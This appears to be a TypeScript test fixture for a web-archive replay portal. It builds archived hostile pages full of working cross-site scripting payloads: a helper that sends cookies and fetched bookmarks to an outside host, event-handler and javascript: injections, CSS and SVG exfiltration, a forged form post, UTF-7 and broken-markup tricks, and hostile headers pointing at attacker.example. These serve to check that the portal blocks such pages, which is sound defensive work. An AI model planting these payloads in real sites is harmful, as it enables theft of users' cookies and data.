/** Archived pages that mean harm, for a browser to open, and the outside world that they try to reach. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { HostilePage } from '../hostile-pages.js'

export const ATTACKER = 'http://attacker.example'
/** A name that the browser resolves to the outside world. */
export const OUTSIDE_NAME = 'outside.example'

export interface Outside {
  /** http://127.0.0.1:port */
  readonly origin: string
  readonly place: string
  /** What reached it: connections, even those that asked for nothing, and requests. */
  readonly seen: string[]
  close(): Promise<void>
}

/** A server on another origin that stands for the network. Everything it sees is a leak. */
export async function openOutside(): Promise<Outside> {
  const seen: string[] = []
  const server: Server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  })
  server.on('connection', () => seen.push('connection'))
  const place = await listen(server)
  return { origin: `http://${place}`, place, seen, close: () => stop(server) }
}

/** The same pages as any server would send them, to see that they do harm where nothing keeps them from it. */
export async function serveUnprotected(
  attacks: readonly Attack[],
): Promise<{ origin: string; close(): Promise<void> }> {
  const server = createServer((request, response) => {
    const attack = attacks.find(({ path }) => path === request.url)
    response.writeHead(attack === undefined ? 404 : 200, { 'content-type': attack?.mime ?? 'text/plain' })
    response.end(attack?.body)
  })
  const origin = `http://${await listen(server)}`
  return { origin, close: () => stop(server) }
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening))
  return `127.0.0.1:${(server.address() as AddressInfo).port}`
}

function stop(server: Server): Promise<void> {
  return new Promise(closed => {
    server.closeAllConnections()
    server.close(() => closed())
  })
}

export interface Attack {
  readonly name: string
  /** Path on the attacker's site. */
  readonly path: string
  readonly mime: string
  readonly body: string
}

/** Each in a page of its own, so that one that is stopped does not stop another. `portal`: the origin under attack. */
export function attacksOn(portal: string, outside: string): Attack[] {
  const named = `http://${OUTSIDE_NAME}`
  const steal = (mark: string): string =>
    `try{document.title='owned';window.owned=1;new Image().src='${outside}/${mark}?'+document.cookie;` +
    `fetch('${portal}/bookmarks').then(r=>r.text()).then(t=>fetch('${outside}/${mark}',{method:'POST',body:t}));` +
    `navigator.sendBeacon('${outside}/${mark}-beacon');new WebSocket('ws://${outside.slice(7)}/${mark}');` +
    `top.location='${outside}/${mark}-top';parent.document.title='owned'}catch(e){}`
  const page = (name: string, head: string, body: string): Attack => ({
    name,
    path: `/${name.replace(/\W+/g, '-')}`,
    mime: 'text/html; charset=utf-8',
    body: `<!doctype html><html><head><title>${name}</title>${head}</head><body><h1>${name}</h1>${body}</body></html>`,
  })
  return [
    page(
      'scripts',
      `<script>${steal('script')}</script>`,
      `<script src="${outside}/x.js"></script><script type="module">import '${outside}/m.js'</script>`,
    ),
    page(
      'handlers',
      '',
      `<img src="x" onerror="${steal('onerror')}"><svg onload="${steal('svg')}"></svg><body onload="${steal('load')}"><details open ontoggle="${steal('toggle')}">x</details><input autofocus onfocus="${steal('focus')}">`,
    ),
    page(
      'script addresses',
      '',
      `<a id="bait" href="javascript:${steal('href')}">click</a> <a href="data:text/html,<script>${steal('data')}</script>">data</a><iframe src="javascript:${steal('frame')}"></iframe>`,
    ),
    page(
      'documents in documents',
      '',
      `<iframe srcdoc="<script>${steal('srcdoc').replaceAll('"', '&quot;')}</script><img src='${outside}/srcdoc.png'>"></iframe><iframe src="data:text/html,<img src='${outside}/data.png'>"></iframe><object data="${outside}/o"></object><embed src="${outside}/e"><iframe src="${outside}/f"></iframe>`,
    ),
    page(
      'meta refresh',
      `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><meta http-equiv="Set-Cookie" content="shelf=stolen">`,
      '',
    ),
    page(
      'base',
      `<base href="${outside}/" target="_top">`,
      '<img src="base.png"><link rel="stylesheet" href="base.css"><a id="bait" href="base.html">click</a>',
    ),
    page(
      'hints',
      [
        'preload" as="script',
        'prefetch',
        'prerender',
        'dns-prefetch',
        'preconnect',
        'modulepreload',
        'manifest',
        'icon',
        'stylesheet',
        'import',
        'search',
        'alternate stylesheet',
      ]
        .map(rel => `<link rel="${rel}" href="${outside}/hint"><link rel="${rel}" href="${named}/hint">`)
        .join('') +
        `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${outside}/s"]}]}</script>`,
      '',
    ),
    page(
      'images',
      '',
      `<img src="${outside}/1.png" srcset="${outside}/2.png 2x"><picture><source srcset="${named}/3.png"><img></picture><video src="${outside}/v" poster="${outside}/p" autoplay></video><audio src="${outside}/a" autoplay></audio><input type="image" src="${outside}/i"><table background="${outside}/t"><tr><td>x</table><img loading="lazy" data-src="${outside}/lazy.png"><video><track default src="${outside}/tr"></video><img src="//${outside.slice(7)}/s.png"><img lowsrc="${outside}/l" dynsrc="${outside}/d">`,
    ),
    page(
      'styles',
      `<style>@import "${outside}/i.css"; @import url(${named}/j.css); @font-face{font-family:f;src:url(${outside}/f.woff2)} body{font-family:f;background:url(${outside}/b.png);list-style:url('${outside}/l.png')} h1::before{content:url(${outside}/c.png)} body{background-image:image-set("${outside}/s.png" 1x);cursor:url(${outside}/u.cur),auto} a{background:u\\72l(${outside}/esc.png)}</style><link rel="stylesheet" href="/attack.css">`,
      `<p style="background:url(${outside}/p.png)">text</p>`,
    ),
    page(
      'forms',
      '',
      `<form id="bait-form" action="${outside}/form" method="post" target="_top"><input name="q" value="secret"><button id="bait">send</button></form><form action="${portal}/bookmarks" method="post"><input name="url" value="${ATTACKER}/"><input name="title" value="forged"><button id="forge">forge</button></form><form action="${outside}/get"><button formaction="${outside}/fa" id="get">get</button></form>`,
    ),
    page(
      'svg',
      '',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="${outside}/i.png"/><image xlink:href="${named}/i.png"/><use href="${outside}/u.svg#a"/><feImage href="${outside}/fe.png"/><script>${steal('svgscript')}</script><a xlink:href="javascript:${steal('svga')}"><text y="20">x</text></a><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/fo"></iframe></foreignObject><style>rect{fill:url(${outside}/fill.svg#x)}</style><rect width="9" height="9"/></svg><img src="/attack.svg">`,
    ),
    page(
      'links out',
      '',
      `<a id="bait" href="${outside}/link" target="_top" ping="${outside}/ping">out</a><a href="${named}/x" target="_blank" rel="opener">new window</a><map name="m"><area href="${outside}/area"></map>`,
    ),
    page(
      'broken markup',
      '',
      `<img src="${outside}/q.png" alt="never closed ><p><a href='${outside}/x><!-- <script>${steal('comment')}</script> --!><img src=${outside}/c.png><noscript><p title="</noscript><img src=${outside}/ns.png onerror=${'`'}x${'`'}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${outside}/mx.png onerror=alert(1)&gt;">`,
    ),
    page(
      'frames of the portal',
      '',
      `<iframe name="p" src="${portal}/bookmarks"></iframe><iframe src="/admin"></iframe><img src="${portal}/bookmarks"><link rel="stylesheet" href="${portal}/lessons">`,
    ),
    {
      name: 'a style sheet',
      path: '/attack.css',
      mime: 'text/css',
      body: `@import "${outside}/css.css"; body{background:url("${outside}/css.png")} @font-face{font-family:g;src:url(//${outside.slice(7)}/g.woff)} h1{font-family:g}`,
    },
    {
      name: 'an svg file',
      path: '/attack.svg',
      mime: 'image/svg+xml',
      body: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" onload="${steal('svgfile')}"><script>${steal('svgfile2')}</script><image href="${outside}/file.png" width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${outside}/fo.png"/></foreignObject></svg>`,
    },
    {
      name: 'a script that says it is text',
      path: '/plain.html',
      mime: 'text/plain',
      body: `<html><script>${steal('sniff')}</script>`,
    },
    {
      name: 'XML with a style',
      path: '/page.xml',
      mime: 'application/xml',
      body: `<?xml version="1.0"?><?xml-stylesheet href="${outside}/x.xsl" type="text/xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${steal('xml')}</script></html>`,
    },
    {
      name: 'old encodings',
      path: '/utf7.html',
      mime: 'text/html; charset=utf-7',
      body: `<title>old encodings</title>+ADw-script+AD4-${steal('utf7')}+ADw-/script+AD4-<h1>text</h1>`,
    },
  ]
}

/** What archived servers say is not passed on: a cookie, a refresh, a preload. */
const BAD_HEADERS = [
  ['Set-Cookie', 'shelf=stolen; Path=/'],
  ['Refresh', `0;url=${ATTACKER}/elsewhere`],
  ['Link', `<${ATTACKER}/preload.js>; rel=preload; as=script`],
  ['Access-Control-Allow-Origin', '*'],
] as const

/** As test/portal/hostile-pages.ts has them. */
export function asHostile({ name, path, mime, body }: Attack): HostilePage {
  return { name, path, headers: [['Content-Type', mime], ...BAD_HEADERS], body }
}

/** One record per page, as any tool writes them. */
export function warcOf(pages: readonly HostilePage[]): Buffer {
  const records = pages.map(({ path, headers, body }, i) => {
    const head = `HTTP/1.1 200 OK\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`
    const block = Buffer.concat([Buffer.from(head), Buffer.from(body)])
    const fields = {
      'WARC-Type': 'response',
      'WARC-Record-ID': `<urn:uuid:00000000-0000-4000-8000-${String(i).padStart(12, '0')}>`,
      'WARC-Date': '2024-05-01T10:00:00Z',
      'WARC-Target-URI': `${ATTACKER}${path}`,
      'Content-Type': 'application/http; msgtype=response',
      'Content-Length': block.length,
    }
    const lines = Object.entries(fields).map(([name, value]) => `${name}: ${value}\r\n`)
    return Buffer.concat([Buffer.from(`WARC/1.0\r\n${lines.join('')}\r\n`), block, Buffer.from('\r\n\r\n')])
  })
  return Buffer.concat(records)
}
